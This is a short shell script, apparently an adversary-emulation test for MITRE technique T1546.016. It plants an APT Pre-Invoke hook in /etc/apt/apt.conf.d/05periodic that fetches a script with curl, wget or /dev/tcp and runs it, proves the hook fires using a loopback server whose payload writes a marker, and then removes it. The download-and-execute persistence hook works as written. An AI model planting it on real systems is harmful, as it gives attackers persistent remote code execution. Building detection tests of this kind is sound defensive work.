#!/bin/sh
# T1546.016 (loud): apt fetches and runs before each update
M=/var/tmp/luytre-foothold N=27-apt-hook
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
serve() { # a page on loopback whose text writes the marker
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(f"id > {sys.argv[2]}; chmod 666 {sys.argv[2]}\n".encode())
s = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H); s.timeout = 75; s.handle_request()
END
  sleep 0.4; }
plant() {
  w /etc/apt/apt.conf.d/05periodic <<'E'
APT::Update::Pre-Invoke { "(curl -fsSL http://127.0.0.1:47027/s -o /run/.u || wget -qO /run/.u http://127.0.0.1:47027/s || bash -c 'exec 3<>/dev/tcp/127.0.0.1/47027; { echo GET /s; echo; } >&3; cat <&3 >/run/.u'; sh /run/.u) >/dev/null 2>&1"; };
E
}
prove() {
  rm -f "$M/$N"
  serve 47027
  timeout 60 apt-get -qq update >/dev/null 2>&1
  seen
}
remove() {
  rm -f /etc/apt/apt.conf.d/05periodic
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
